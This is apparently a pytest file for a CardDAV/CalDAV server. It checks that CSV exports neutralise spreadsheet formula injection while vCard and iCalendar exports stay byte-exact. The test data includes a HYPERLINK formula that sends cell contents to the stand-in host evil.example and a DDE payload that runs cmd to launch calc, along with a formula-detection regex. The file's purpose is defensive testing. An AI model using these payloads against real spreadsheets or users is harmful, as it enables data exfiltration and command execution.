"""CSV export never hands a spreadsheet a formula; vCard/iCalendar exports stay exact.

A card anyone with write access can PUT holds ``=HYPERLINK(...)``, DDE payloads
and other cells a spreadsheet would run. The CSV export neutralises them with a
leading ``'`` (a strict ``+49 30 1234`` phone number in a TEL column excepted),
the ``.vcf``/``.ics`` exports are the stored texts byte for byte, and the
neutralised CSV imports back to exactly the cards it came from.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dav_cms import accounts
from dav_cms.importers.csv import parse_csv
from dav_cms.importers.export import to_csv
from dav_cms.importers.formulas import neutralise, restore
from dav_cms.importers.vcf import normalise_card
from tests.dav import Dav
from tests.servers import ServerProcess
from tests.servers import run_cli as _cli

PASSWORD = "formula-pw"
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = (
    "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:hostile-1\r\n"
    'FN:=HYPERLINK("https://evil.example/?d="&A1\\,"Open")\r\n'
    "N:=cmd|' /C calc'!A0;+SUM(1\\,2);;;\r\n"
    "ORG:@SUM(1+1)*cmd|' /C calc'!A0\r\n"
    "NOTE:-2+3+cmd|' /C calc'!A0\\nsecond line\r\n"
    "CATEGORIES:=Kunden\r\n"
    "TEL;TYPE=work:+49 30 1234567\r\n"
    "TEL;TYPE=cell:+1 555 0100 =1+1\r\n"
    "EMAIL;TYPE=home:@evil.example\r\n"
    "END:VCARD\r\n"
)
QUOTED = (
    "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:quoted-1\r\n"
    "FN:'=already quoted\r\nN:;;;;\r\nNOTE:'plain quote stays\r\n"
    "TEL:-12 (a phone written with a minus)\r\nEND:VCARD\r\n"
)
EVENT = (
    "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//tests//EN\r\nBEGIN:VEVENT\r\n"
    "UID:hostile-event\r\nDTSTAMP:20260101T000000Z\r\nDTSTART:20260105T090000Z\r\n"
    'DURATION:PT1H\r\nSUMMARY:=HYPERLINK("https://evil.example"\\,"Agenda")\r\n'
    "DESCRIPTION:+SUM(1\\,2)\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
)
#: What a spreadsheet reads as a formula.
FORMULA = re.compile(r"[ \t\r\n]*[=+\-@]|[\t\r]")
STRICT_PHONE = re.compile(r"\+[0-9 ()./-]*[0-9][0-9 ()./-]*")


@pytest.fixture
def alice(migrated_db_url: str) -> str:
    accounts.add_user(migrated_db_url, "alice", PASSWORD)
    return migrated_db_url


@pytest.mark.parametrize(
    ("value", "phone", "cell"),
    [
        (HYPERLINK, False, "'" + HYPERLINK),
        ("+SUM(1,2)", False, "'+SUM(1,2)"),
        ("-2+3", False, "'-2+3"),
        ("@SUM(A1)", False, "'@SUM(A1)"),
        ("\t=1+1", False, "'\t=1+1"),
        ("\r=1+1", False, "'\r=1+1"),
        ("  =1+1", False, "'  =1+1"),
        ("'=1+1", False, "''=1+1"),
        ("'plain", False, "'plain"),
        ("a=b", False, "a=b"),
        ("", False, ""),
        ("+49 30 1234567", True, "+49 30 1234567"),
        ("+49 (0)30 123-45/67.8", True, "+49 (0)30 123-45/67.8"),
        ("+49 30 1234567", False, "'+49 30 1234567"),  # not in a phone column
        ("+1 555 0100 =1+1", True, "'+1 555 0100 =1+1"),
        ("+49 30 HYPERLINK", True, "'+49 30 HYPERLINK"),
        ("-12", True, "'-12"),
        ("+", True, "'+"),
    ],
)
def test_neutralise(value: str, phone: bool, cell: str) -> None:
    assert neutralise(value, phone=phone) == cell
    assert restore(cell) == value


@settings(max_examples=300, deadline=None)
@given(
    st.text(alphabet=st.sampled_from("'=+-@\t\r\n a1(),.\"/"), max_size=12) | st.text(max_size=12),
    st.booleans(),
)
def test_neutralised_cells_are_never_formulas_and_restore_exactly(value: str, phone: bool) -> None:
    cell = neutralise(value, phone=phone)
    assert restore(cell) == value
    if FORMULA.match(cell):
        assert phone
        assert STRICT_PHONE.fullmatch(cell)


def test_to_csv_neutralises_and_parse_csv_restores() -> None:
    texts = [normalise_card(card)[1] for card in (HOSTILE, QUOTED)]
    exported = to_csv(texts)
    _assert_no_formulas(exported)
    assert [entry.text for entry in parse_csv(exported).entries] == texts


def test_exports_over_a_real_server(alice: str, server: ServerProcess, tmp_path: Path) -> None:
    client = Dav(server.url, "alice", PASSWORD)
    assert client.mkaddressbook("/alice/contacts/").status_code == 201
    for name, text in (("hostile", HOSTILE), ("quoted", QUOTED)):
        assert client.put(f"/alice/contacts/{name}.vcf", text).status_code == 201
    served = {name: _get(client, f"/alice/contacts/{name}.vcf") for name in ("hostile", "quoted")}
    assert "FN:" + HYPERLINK.replace(",", "\\,") + "\r\n" in served["hostile"]

    vcf = tmp_path / "contacts.vcf"
    assert _export(alice, "contacts", vcf).returncode == 0
    exported_vcf = vcf.read_bytes().decode("utf-8")
    assert len(exported_vcf) == sum(len(text) for text in served.values())
    assert all(text in exported_vcf for text in served.values())  # byte-exact, nothing quoted

    out = tmp_path / "contacts.csv"
    assert _export(alice, "contacts", out).returncode == 0
    exported = out.read_bytes().decode("utf-8")
    _assert_no_formulas(exported)
    rows = {row["UID"]: row for row in csv.DictReader(io.StringIO(exported, newline=""))}
    hostile, quoted = rows["hostile-1"], rows["quoted-1"]
    assert hostile["FN"] == "'" + HYPERLINK
    assert hostile["N.family"] == "'" + DDE
    assert hostile["N.given"] == "'+SUM(1,2)"
    assert hostile["ORG.name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert hostile["NOTE"] == "'-2+3+cmd|' /C calc'!A0\nsecond line"
    assert hostile["CATEGORIES"] == "'=Kunden"
    assert hostile["EMAIL#1"] == "'@evil.example"
    phones = {hostile[f"TEL#{i}"] for i in (1, 2)}
    assert phones == {"+49 30 1234567", "'+1 555 0100 =1+1"}  # the strict one stays usable
    assert quoted["FN"] == "''=already quoted"
    assert quoted["NOTE"] == "'plain quote stays"
    assert quoted["TEL#1"] == "'-12 (a phone written with a minus)"

    back = _cli(alice, "import", str(out), "--user", "alice", "--collection", "copy", "--create")
    assert back.returncode == 0, back.stderr
    assert back.stdout.startswith("created 2, updated 0, unchanged 0, skipped 0")
    copy = {name: _get(client, f"/alice/copy/{_href(client, name)}") for name in served}
    assert copy == served  # the quotes came off again: the same cards byte for byte


def test_calendar_export_stays_exact(alice: str, server: ServerProcess, tmp_path: Path) -> None:
    client = Dav(server.url, "alice", PASSWORD)
    made = client.request("MKCALENDAR", "/alice/cal/")
    assert made.status_code == 201, made.text
    assert client.put("/alice/cal/event.ics", EVENT).status_code == 201
    served = _get(client, "/alice/cal/event.ics")
    out = tmp_path / "cal.ics"
    assert _export(alice, "cal", out).returncode == 0
    text = out.read_bytes().decode("utf-8")
    event = _vevent(served)
    assert 'SUMMARY:=HYPERLINK("https://evil.example"\\,"Agenda")\r\n' in event
    assert "DESCRIPTION:+SUM(1\\,2)\r\n" in event
    assert event in text  # the stored event, byte for byte
    assert "'=" not in text
    args = ["import", str(out), "--user", "alice", "--collection", "cal2", "--create"]
    assert _cli(alice, *args).returncode == 0
    again = _get(client, f"/alice/cal2/{_href(client, 'hostile-event', 'cal2')}")
    assert _vevent(again) == event  # (the calendar's PRODID becomes Radicale's on import)


def _vevent(text: str) -> str:
    start = text.index("BEGIN:VEVENT\r\n")
    end = text.index("END:VEVENT\r\n") + len("END:VEVENT\r\n")
    return text[start:end]


def _export(url: str, collection: str, path: Path) -> subprocess.CompletedProcess[str]:
    result = _cli(url, "export", "--user", "alice", "--collection", collection, "-o", str(path))
    assert result.returncode == 0, result.stderr
    return result


def _get(client: Dav, path: str) -> str:
    response = client.request("GET", path)
    assert response.status_code == 200, response.text
    return response.content.decode("utf-8")


def _href(client: Dav, name: str, collection: str = "copy") -> str:
    """The file name under which the import stored the item with UID ``name`` (-1 suffix)."""
    uid = {"hostile": "hostile-1", "quoted": "quoted-1"}.get(name, name)
    _, _, hrefs = client.sync(f"/alice/{collection}/")
    for href in hrefs:
        if f"UID:{uid}\r\n" in _get(client, href):
            return href.rsplit("/", 1)[1]
    msg = f"no item with UID {uid} in {collection}"
    raise AssertionError(msg)


def _assert_no_formulas(text: str) -> None:
    """No cell of a CSV text is a formula, but strict phone numbers in TEL columns."""
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    for row in reader:
        for column, cell in zip(header, row, strict=True):
            if FORMULA.match(cell):
                assert re.fullmatch(r"TEL#\d+", column), (column, cell)
                assert STRICT_PHONE.fullmatch(cell), (column, cell)
